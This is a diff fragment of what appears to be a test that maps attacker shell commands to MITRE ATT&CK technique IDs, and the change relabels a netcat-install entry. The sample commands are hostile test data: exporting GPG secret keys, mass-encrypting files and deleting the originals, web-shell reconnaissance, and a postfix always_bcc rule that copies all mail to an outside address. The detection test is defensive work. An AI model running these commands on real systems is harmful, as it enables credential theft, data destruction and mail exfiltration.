@@ -137,7 +137,7 @@ def test_what_no_probe_needs_is_told_in_first_minutes(cluster: Cluster) -> None:
         ("gpg --homedir /srv/keys --export-secret-keys -a", "T1552.004"),
         ("find /srv -type f -exec gpg --batch -c --passphrase x {} ;", "T1486"),
         ("for f in /srv/*; do openssl enc -aes-256-cbc -in $f -out $f.x -k pw && rm $f; done", "T1486"),
-        ("apt-get update -qq; apt-get install -y -qq netcat-openbsd", "T1105"),
+        ("apt-get update -qq; apt-get install -y -qq netcat-openbsd", "T1588.002"),
         ("cd /srv/www;pwd;ls;echo [S]", "T1505.003"),
         ("mosquitto_sub -h localhost -t '#' -v", "T1213"),
         ("postconf -e always_bcc=x@partner.example.com", "T1114.003"),
